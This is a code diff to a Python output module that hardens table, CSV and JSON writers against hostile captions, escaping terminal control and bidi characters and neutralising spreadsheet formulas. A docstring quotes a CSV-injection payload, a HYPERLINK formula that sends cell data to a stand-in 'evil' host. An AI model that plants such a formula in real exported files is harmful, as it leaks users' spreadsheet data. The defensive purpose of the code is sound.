@@ -4,6 +4,13 @@ Every writer streams: it writes each record batch as it arrives and never collec
 a query over a large index starts printing at once and its memory stays bounded. `json` is one
 JSON document (an array of row objects; `--video` one object) so that `json.load` and `jq '.[0]'`
 work; `jsonl` is one object per line for tools that read rows one at a time.
+
+Captions, answers, labels and URIs come from models and users, so `table` and `csv` treat them as
+hostile: `table` shows control characters (ANSI escapes, OSC sequences, C1 controls, bidi
+overrides) as escapes like ``\\x1b`` instead of letting them drive the terminal, and `csv` prefixes
+a text cell that a spreadsheet would run as a formula with ``'`` (OWASP's CSV-injection advice).
+`json` and `jsonl` carry the exact values: control characters, C1 controls, bidi overrides and
+line separators are written as ``\\uXXXX`` escapes, which decode to the very same strings.
 """
 
 from __future__ import annotations
@@ -58,11 +65,44 @@ def _interval(value: "pa.MonthDayNano") -> dt.timedelta | str:
     return f"P{value.months}M{value.days}DT{value.nanoseconds / 1e9:g}S"
 
 
-def _json_text(value: Any) -> str:
-    return json.dumps(to_jsonable(value), ensure_ascii=False)
+# Terminal controls shown as escapes: C0 (ESC, BEL, CR, backspace ...), DEL, C1 (CSI U+009B),
+# bidi overrides and isolates (text that displays in another order than it reads), line separators.
+_BIDI = (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x2028, 0x2029)
+_VISIBLE = {c: f"\\x{c:02x}" for c in (*range(0x20), *range(0x7F, 0xA0))} | {c: f"\\u{c:04x}" for c in _BIDI}
+_VISIBLE |= {ord("\n"): " ", ord("\t"): " "}  # a multi-line caption stays readable on one row
+# First characters that make a spreadsheet evaluate a cell (OWASP), with their full-width forms.
+_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
+
+
+def terminal_safe(text: str) -> str:
+    """`text` with every character that could drive a terminal written as a visible escape."""
+    return text.translate(_VISIBLE)
+
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A text cell a spreadsheet would run as a formula, prefixed with ``'``; other values unchanged.
+
+    Only strings: a number from a numeric column (a negative float) must stay a number.
+    """
+    if isinstance(value, str) and value.startswith(_FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+# Characters that json.dumps(ensure_ascii=False) leaves raw but a terminal or a line splitter acts on:
+# as \uXXXX escapes they are the same JSON value (they only ever occur inside strings).
+_JSON_ESCAPES = {c: f"\\u{c:04x}" for c in (*range(0x7F, 0xA0), *_BIDI)}
+
+
+def _json_text(value: Any, indent: int | None = None) -> str:
+    return json.dumps(to_jsonable(value), ensure_ascii=False, indent=indent).translate(_JSON_ESCAPES)
 
 
 def _cell_text(value: Any) -> str:
+    return terminal_safe(_plain_text(value))
+
+
+def _plain_text(value: Any) -> str:
     if value is None:
         return "NULL"
     if isinstance(value, float):
@@ -73,7 +113,7 @@ def _cell_text(value: Any) -> str:
         return _json_text(value)
     if isinstance(value, dt.datetime):
         return value.isoformat(sep=" ")
-    return str(value).replace("\n", " ")
+    return str(value)
 
 
 def _clip(text: str, width: int) -> str:
@@ -101,20 +141,21 @@ def write_table(reader: Rows, out: TextIO) -> int:
     """Aligned text columns. Widths come from the first batch so output can start immediately."""
     schema = reader.schema
     numeric = [pa.types.is_integer(f.type) or pa.types.is_floating(f.type) for f in schema]
+    names = [terminal_safe(f.name) for f in schema]
     widths: list[int] | None = None
     count = 0
     for batch in _batches(reader):
         rows = [[_clip(_cell_text(v), TABLE_CELL_WIDTH) for v in row.values()] for row in batch.to_pylist()]
         if widths is None:
-            widths = [max([len(f.name)] + [len(r[i]) for r in rows]) for i, f in enumerate(schema)]
-            _write_row([f.name for f in schema], widths, [False] * len(widths), out)
+            widths = [max([len(n)] + [len(r[i]) for r in rows]) for i, n in enumerate(names)]
+            _write_row(names, widths, [False] * len(widths), out)
             out.write("  ".join("-" * w for w in widths).rstrip() + "\n")
         for row in rows:
             _write_row(row, widths, numeric, out)
         count += len(rows)
     if widths is None:  # no rows at all: still show the header
-        widths = [len(f.name) for f in schema]
-        _write_row([f.name for f in schema], widths, [False] * len(widths), out)
+        widths = [len(n) for n in names]
+        _write_row(names, widths, [False] * len(widths), out)
     out.write(f"({count} row{'s' if count != 1 else ''})\n")
     return count
 
@@ -148,14 +189,27 @@ def write_jsonl(reader: Rows, out: TextIO) -> int:
 
 
 def write_csv(reader: Rows, out: TextIO) -> int:
-    """CSV with a header; nested values (lists, structs) are written as JSON text in their cell."""
+    """CSV with a header; nested values (lists, structs) are written as JSON text in their cell.
+
+    Text cells that start like a formula get a leading ``'`` (`spreadsheet_safe`): a caption such as
+    ``=HYPERLINK("http://evil/?"&A1)`` must not run when the file is opened in a spreadsheet.
+    """
     writer = csv.writer(out, lineterminator="\n")
-    writer.writerow(reader.schema.names)
+    # With a "\n" terminator, csv quotes "\n" but not a lone "\r", which readers (and spreadsheets)
+    # take as a line break: a row holding one is written with every text cell quoted.
+    quoting = csv.writer(out, lineterminator="\n", quoting=csv.QUOTE_NONNUMERIC)
     count = 0
-    for row in _rows(reader):
-        writer.writerow([_csv_cell(v) for v in row.values()])
+    for cells in _csv_rows(reader):
+        (quoting if any(isinstance(c, str) and "\r" in c for c in cells) else writer).writerow(cells)
         count += 1
-    return count
+    return count - 1
+
+
+def _csv_rows(reader: Rows) -> Iterator[list[Any]]:
+    """The header, then each row's cells, every text cell made `spreadsheet_safe`."""
+    yield [spreadsheet_safe(n) for n in reader.schema.names]
+    for row in _rows(reader):
+        yield [spreadsheet_safe(_csv_cell(v)) for v in row.values()]
 
 
 def _csv_cell(value: Any) -> Any:
@@ -181,7 +235,7 @@ WRITERS: dict[str, Callable[[Rows, TextIO], int]] = {
 def write_video(result: VideoResult, fmt: str, out: TextIO) -> None:
     """`--video` output: sections for people (table), one document (json, jsonl), one flat table (csv)."""
     if fmt == "json":
-        out.write(json.dumps(to_jsonable(result.to_dict()), ensure_ascii=False, indent=2) + "\n")
+        out.write(_json_text(result.to_dict(), indent=2) + "\n")
         return
     if fmt == "jsonl":
         out.write(_json_text(result.to_dict()) + "\n")
@@ -191,7 +245,7 @@ def write_video(result: VideoResult, fmt: str, out: TextIO) -> None:
         return
     doc = result.to_dict()
     video = doc["video"]
-    out.write(f"video {video['video_id']}  ({video['uri']})\n")
+    out.write(terminal_safe(f"video {video['video_id']}  ({video['uri']})") + "\n")
     keys = ("status", "error", "run_id", "model", "tracker", "indexed_at", "duration_s", "width", "height",
             "sampled_fps", "num_sampled", "clips")  # fmt: skip
     for key in keys:
@@ -199,7 +253,7 @@ def write_video(result: VideoResult, fmt: str, out: TextIO) -> None:
             out.write(f"  {key:<11} {_cell_text(video[key])}\n")
     if len(doc["runs"]) > 1:
         others = ", ".join(f"{r['run_id']} ({r['status']}, {r['model']})" for r in doc["runs"])
-        out.write(f"  runs        {others}\n")
+        out.write(f"  runs        {terminal_safe(others)}\n")
     objects = [{**o, "clips": _ranges(o["clips"]), "spans": "; ".join(f"{a:g}-{b:g}" for a, b in o["spans"])}
                for o in doc["objects"]]  # fmt: skip
     clips = [{**c, "object_ids": _ranges(c["object_ids"])} for c in doc["clips"]]
